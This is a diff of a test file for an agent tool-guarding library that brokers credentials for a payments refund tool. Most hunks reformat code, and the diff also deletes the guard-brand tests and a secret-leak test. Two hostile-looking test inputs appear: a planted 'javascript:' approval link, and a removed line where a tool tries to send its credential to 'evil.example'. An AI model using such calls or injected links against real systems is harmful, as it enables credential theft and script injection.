@@ -1,13 +1,33 @@
-import { inspect } from "node:util";
-import { ASSERTION_SECONDS, AssertionClaims, TOKEN_TYPE_URIS, type TokenRequest, actionDigest, agentUri, parseClaims, runUri, sha256 } from "@watchword/core";
+import {
+  ASSERTION_SECONDS,
+  AssertionClaims,
+  TOKEN_TYPE_URIS,
+  type TokenRequest,
+  actionDigest,
+  agentUri,
+  parseClaims,
+  runUri,
+  sha256,
+} from "@watchword/core";
 import { describe, expect, test } from "vitest";
-import { assertGuarded, bind, guard, isGuarded } from "../src/index.ts";
-import { NOW, type RefundArguments, fakeRuntime, payments, refundTool, sendRefund } from "./payments-tools.ts";
+import { bind, guard } from "../src/index.ts";
+import {
+  NOW,
+  type RefundArguments,
+  fakeRuntime,
+  payments,
+  refundTool,
+  sendRefund,
+} from "./payments-tools.ts";
 
 describe("a tool without a run", () => {
   test("is not called: no_run", async () => {
     const { tool, calls } = refundTool(() => "done");
-    expect(await tool.execute({ charge: "ch.1" })).toEqual({ error: "access_denied", reason: "no_run", retryable: false });
+    expect(await tool.execute({ charge: "ch.1" })).toEqual({
+      error: "access_denied",
+      reason: "no_run",
+      retryable: false,
+    });
     expect(calls).toEqual([]);
   });
 
@@ -29,25 +49,54 @@ describe("a tool call inside a run", () => {
   test("is asserted, allowed, and then runs with its credential", async () => {
     const { fake, runtime } = fakeRuntime({ respond: () => Response.json({ id: "re.1" }) });
     const { tool, calls } = refundTool(async (credential) => (await sendRefund(credential)).json());
-    expect(await runtime.run({}, () => tool.execute({ charge: "ch.1", cents: 4_200 }))).toEqual({ id: "re.1" });
+    expect(await runtime.run({}, () => tool.execute({ charge: "ch.1", cents: 4_200 }))).toEqual({
+      id: "re.1",
+    });
     expect(calls).toEqual([{ charge: "ch.1", cents: 4_200 }]);
-    expect(fake.proposals[0]?.action).toMatchObject({ system: "payments", operation: "refunds.create", arguments: { charge: "ch.1", amount: { minor: 4_200 } } });
-    expect(fake.requests.map(({ method, url }) => [method, url])).toEqual([["POST", "https://api.example/v1/refunds"]]);
+    expect(fake.proposals[0]?.action).toMatchObject({
+      system: "payments",
+      operation: "refunds.create",
+      arguments: { charge: "ch.1", amount: { minor: 4_200 } },
+    });
+    expect(fake.requests.map(({ method, url }) => [method, url])).toEqual([
+      ["POST", "https://api.example/v1/refunds"],
+    ]);
   });
 
   test("is asserted with exactly the claims of the contract", async () => {
     const asked: TokenRequest[] = [];
     const { fake } = fakeRuntime();
-    const { runtime } = fakeRuntime({}, { broker: { ...fake.client, token: (request) => (asked.push(request), fake.client.token(request)) }, fetch: fake.fetch, policyVersion: "v7" });
+    const { runtime } = fakeRuntime(
+      {},
+      {
+        broker: { ...fake.client, token: (request) => (asked.push(request), fake.client.token(request)) },
+        fetch: fake.fetch,
+        policyVersion: "v7",
+      },
+    );
     const { tool } = refundTool(() => "done");
-    const frame = await runtime.run({}, async (current) => (await tool.execute({ charge: "ch.1" }, { toolCallId: "call_7" }), current));
+    const frame = await runtime.run(
+      {},
+      async (current) => (await tool.execute({ charge: "ch.1" }, { toolCallId: "call_7" }), current),
+    );
     const act = asked[1];
-    expect(act).toMatchObject({ subject_token_type: TOKEN_TYPE_URIS.run, actor_token_type: TOKEN_TYPE_URIS.assertion, requested_token_type: TOKEN_TYPE_URIS.handle });
+    expect(act).toMatchObject({
+      subject_token_type: TOKEN_TYPE_URIS.run,
+      actor_token_type: TOKEN_TYPE_URIS.assertion,
+      requested_token_type: TOKEN_TYPE_URIS.handle,
+    });
     const proposal = fake.proposals[0];
     const claims = parseClaims(AssertionClaims, proposal?.claims);
     expect(claims).toMatchObject({
-      iss: runUri(frame.runId), sub: agentUri("support@3"), aud: fake.client.issuer, iat: NOW, exp: NOW + ASSERTION_SECONDS, txn: proposal?.action.txn,
-      ath: sha256(act?.subject_token ?? ""), call: { tool: "refund", id: "call_7" }, policy_version: "v7",
+      iss: runUri(frame.runId),
+      sub: agentUri("support@3"),
+      aud: fake.client.issuer,
+      iat: NOW,
+      exp: NOW + ASSERTION_SECONDS,
+      txn: proposal?.action.txn,
+      ath: sha256(act?.subject_token ?? ""),
+      call: { tool: "refund", id: "call_7" },
+      policy_version: "v7",
     });
     expect(proposal && claims.action_digest).toBe(proposal && actionDigest(proposal.action));
     expect(claims.approval_id).toBeUndefined();
@@ -56,7 +105,10 @@ describe("a tool call inside a run", () => {
   test("is a new action every time, so that two equal calls are two", async () => {
     const { fake, runtime } = fakeRuntime();
     const { tool } = refundTool(() => "done");
-    await runtime.run({}, async () => [await tool.execute({ charge: "ch.1" }), await tool.execute({ charge: "ch.1" })]);
+    await runtime.run({}, async () => [
+      await tool.execute({ charge: "ch.1" }),
+      await tool.execute({ charge: "ch.1" }),
+    ]);
     expect(new Set(fake.proposals.map(({ action }) => action.txn)).size).toBe(2);
     expect(new Set(fake.proposals.map(({ claims }) => claims["jti"])).size).toBe(2);
   });
@@ -64,7 +116,12 @@ describe("a tool call inside a run", () => {
   test("gets the framework's options, and neither pending action nor listener among them", async () => {
     const { runtime } = fakeRuntime();
     const { tool } = refundTool((_credential, options) => Object.keys(options).toSorted());
-    const result = await runtime.run({}, () => tool.execute({ charge: "ch.1" }, { toolCallId: "call_1", messages: [], onApprovalRequired: () => undefined }));
+    const result = await runtime.run({}, () =>
+      tool.execute(
+        { charge: "ch.1" },
+        { toolCallId: "call_1", messages: [], onApprovalRequired: () => undefined },
+      ),
+    );
     expect(result).toEqual(["messages", "signal", "toolCallId"]);
   });
 });
@@ -74,7 +131,12 @@ describe("a refusal of the broker", () => {
     const { fake, runtime } = fakeRuntime({ decide: () => "tenant_mismatch" });
     const { tool, calls } = refundTool(() => "done");
     const result = await runtime.run({}, () => tool.execute({ charge: "ch.other" }));
-    expect(result).toEqual({ error: "access_denied", reason: "tenant_mismatch", decision_id: expect.stringMatching(/^dec_/), retryable: false });
+    expect(result).toEqual({
+      error: "access_denied",
+      reason: "tenant_mismatch",
+      decision_id: expect.stringMatching(/^dec_/),
+      retryable: false,
+    });
     expect([calls, fake.requests]).toEqual([[], []]);
   });
 
@@ -85,21 +147,44 @@ describe("a refusal of the broker", () => {
       ...fake.client,
       token: async (request) =>
         request.subject_token_type === TOKEN_TYPE_URIS.run
-          ? { ok: false, error: planted, error_description: planted, reason: planted as "internal", retryable: true, decision_id: planted, approval_id: planted, approval_uri: `javascript:${planted}` }
+          ? {
+              ok: false,
+              error: planted,
+              error_description: planted,
+              reason: planted as "internal",
+              retryable: true,
+              decision_id: planted,
+              approval_id: planted,
+              approval_uri: `javascript:${planted}`,
+            }
           : fake.client.token(request),
     };
     const { runtime } = fakeRuntime({}, { broker });
     const { tool } = refundTool(() => "done");
-    expect(await runtime.run({}, () => tool.execute({ charge: "ch.1" }))).toEqual({ error: "server_error", reason: "internal", retryable: false });
+    expect(await runtime.run({}, () => tool.execute({ charge: "ch.1" }))).toEqual({
+      error: "server_error",
+      reason: "internal",
+      retryable: false,
+    });
   });
 
   test("that never came, because the broker is away, is internal; the error goes to the operator only", async () => {
     const { fake } = fakeRuntime();
     const errors: unknown[] = [];
-    const broker = { ...fake.client, token: (request: TokenRequest) => (request.subject_token_type === TOKEN_TYPE_URIS.run ? Promise.reject(new Error("canary ECONNREFUSED")) : fake.client.token(request)) };
+    const broker = {
+      ...fake.client,
+      token: (request: TokenRequest) =>
+        request.subject_token_type === TOKEN_TYPE_URIS.run
+          ? Promise.reject(new Error("canary ECONNREFUSED"))
+          : fake.client.token(request),
+    };
     const { runtime } = fakeRuntime({}, { broker, onToolError: (error) => void errors.push(error) });
     const { tool, calls } = refundTool(() => "done");
-    expect(await runtime.run({}, () => tool.execute({ charge: "ch.1" }))).toEqual({ error: "server_error", reason: "internal", retryable: false });
+    expect(await runtime.run({}, () => tool.execute({ charge: "ch.1" }))).toEqual({
+      error: "server_error",
+      reason: "internal",
+      retryable: false,
+    });
     expect([calls, errors.map(String)]).toEqual([[], ["Error: canary ECONNREFUSED"]]);
   });
 });
@@ -114,7 +199,11 @@ describe("arguments that do not fit the operation", () => {
     const errors: unknown[] = [];
     const { fake, runtime } = fakeRuntime({}, { onToolError: (error) => void errors.push(error) });
     const { tool, calls } = refundTool(() => "done");
-    expect(await runtime.run({}, () => tool.execute(args))).toEqual({ error: "invalid_request", reason: "binding_failed", retryable: false });
+    expect(await runtime.run({}, () => tool.execute(args))).toEqual({
+      error: "invalid_request",
+      reason: "binding_failed",
+      retryable: false,
+    });
     expect([calls, fake.proposals, errors.length]).toEqual([[], [], 1]);
   });
 
@@ -128,24 +217,48 @@ describe("arguments that do not fit the operation", () => {
       }),
     );
     await runtime.run({}, () => tool.execute({ order: "7" }));
-    expect(fake.proposals[0]?.action).toMatchObject({ arguments: { charge: "ch.7" }, resource: { account: "acct.acme" } });
+    expect(fake.proposals[0]?.action).toMatchObject({
+      arguments: { charge: "ch.7" },
+      resource: { account: "acct.acme" },
+    });
   });
 });
 
 describe("a tool that throws", () => {
   test("fails without its text; the original goes to the operator", async () => {
     const errors: unknown[] = [];
-    const { runtime } = fakeRuntime({}, { onToolError: (error, context) => void errors.push([String(error), context.tool, context.callId]) });
-    const { tool } = refundTool(() => { throw new Error("canary in a downstream error"); });
+    const { runtime } = fakeRuntime(
+      {},
+      { onToolError: (error, context) => void errors.push([String(error), context.tool, context.callId]) },
+    );
+    const { tool } = refundTool(() => {
+      throw new Error("canary in a downstream error");
+    });
     const result = await runtime.run({}, () => tool.execute({ charge: "ch.1" }, { toolCallId: "call_1" }));
-    expect(result).toEqual({ error: "tool_failed", reason: "tool_failed", decision_id: expect.stringMatching(/^dec_/), retryable: false });
+    expect(result).toEqual({
+      error: "tool_failed",
+      reason: "tool_failed",
+      decision_id: expect.stringMatching(/^dec_/),
+      retryable: false,
+    });
     expect(errors).toEqual([["Error: canary in a downstream error", "refund", "call_1"]]);
   });
 
   test("fails the same when the listener throws, too", async () => {
-    const { runtime } = fakeRuntime({}, { onToolError: () => { throw new Error("listener"); } });
-    const { tool } = refundTool(() => { throw new Error("canary"); });
-    expect(await runtime.run({}, () => tool.execute({ charge: "ch.1" }))).toMatchObject({ reason: "tool_failed" });
+    const { runtime } = fakeRuntime(
+      {},
+      {
+        onToolError: () => {
+          throw new Error("listener");
+        },
+      },
+    );
+    const { tool } = refundTool(() => {
+      throw new Error("canary");
+    });
+    expect(await runtime.run({}, () => tool.execute({ charge: "ch.1" }))).toMatchObject({
+      reason: "tool_failed",
+    });
   });
 
   test("because the gateway refused yields the gateway's reason", async () => {
@@ -154,7 +267,11 @@ describe("a tool that throws", () => {
       const response = await sendRefund(credential);
       if (!response.ok) throw new Error(`Payments API error: ${await response.text()}`);
     });
-    expect(await runtime.run({}, () => tool.execute({ charge: "ch.1" }))).toMatchObject({ error: "access_denied", reason: "request_mismatch", retryable: false });
+    expect(await runtime.run({}, () => tool.execute({ charge: "ch.1" }))).toMatchObject({
+      error: "access_denied",
+      reason: "request_mismatch",
+      retryable: false,
+    });
     expect(fake.requests).toEqual([]);
   });
 
@@ -165,55 +282,8 @@ describe("a tool that throws", () => {
       await sendRefund(credential);
       throw new Error("bug");
     });
-    expect(await runtime.run({}, () => tool.execute({ charge: "ch.1" }))).toMatchObject({ reason: "tool_failed" });
+    expect(await runtime.run({}, () => tool.execute({ charge: "ch.1" }))).toMatchObject({
+      reason: "tool_failed",
+    });
   });
-});
-
-describe("the brand of a guard", () => {
-  test("is on guarded tools and on no copy with another execute", () => {
-    const { tool } = refundTool(() => "done");
-    expect(isGuarded(tool)).toBe(true);
-    expect(isGuarded({ ...tool })).toBe(true);
-    expect(isGuarded({ ...tool, execute: () => "raw" })).toBe(false);
-    for (const other of [undefined, null, "refund", {}, { execute: "x" }, { [Symbol.for("watchword.guarded")]: true, execute: () => 1 }]) expect(isGuarded(other)).toBe(false);
-  });
-
-  test("is demanded of every tool of an agent, except where the team says otherwise", () => {
-    const { tool } = refundTool(() => "done");
-    const tools = { refund: tool, raw: { execute: () => 1 } };
-    expect(() => assertGuarded(tools)).toThrow(expect.objectContaining({ reason: "configuration_invalid", message: expect.stringContaining("raw") }));
-    expect(() => assertGuarded(tools, { allow: ["raw"] })).not.toThrow();
-    expect(() => assertGuarded({ refund: tool }, { allow: [] })).not.toThrow();
-  });
-
-  test("leaves everything else of the tool in place, and the original alone", () => {
-    const original = Object.freeze({ name: "refund", description: "d", inputSchema: { a: 1 }, execute: ({ charge }: RefundArguments) => charge });
-    const guarded = guard(original, bind(payments.refundsCreate, ({ charge }: RefundArguments) => ({ charge })));
-    expect(guarded).toMatchObject({ name: "refund", description: "d", inputSchema: { a: 1 } });
-    expect(isGuarded(original)).toBe(false);
-    expect(() => Object.assign(guarded, { execute: () => 1 })).toThrow(TypeError);
-  });
-});
-
-test("no handle, run token or key is in any denial, error, frame or inspection", async () => {
-  const { fake } = fakeRuntime();
-  const secrets: string[] = [];
-  const broker: typeof fake.client = {
-    ...fake.client,
-    token: async (request) => {
-      const answer = await fake.client.token(request);
-      secrets.push(...(answer.ok ? [answer.access_token] : []), request.actor_token ?? "-");
-      return answer;
-    },
-  };
-  const seen: unknown[] = [];
-  const { runtime } = fakeRuntime({}, { broker, fetch: fake.fetch, onToolError: (...told) => void seen.push(told) });
-  const { tool } = refundTool(async (credential) => {
-    seen.push(credential, await credential.fetch("https://evil.example").catch((error: unknown) => error), await sendRefund(credential), await sendRefund(credential));
-    throw new Error("bug");
-  });
-  await runtime.run({ user: { token: "user-token-canary" } }, async (frame) => void seen.push(frame, await tool.execute({ charge: "ch.1" })));
-  const text = JSON.stringify(seen) + inspect(seen, { depth: 12, showHidden: true }) + inspect([runtime, tool], { depth: 12, showHidden: true });
-  expect(secrets.length).toBeGreaterThanOrEqual(4);
-  for (const secret of [...secrets.filter((value) => value !== "workload-token"), "user-token-canary"]) expect(text.includes(secret)).toBe(false);
 });
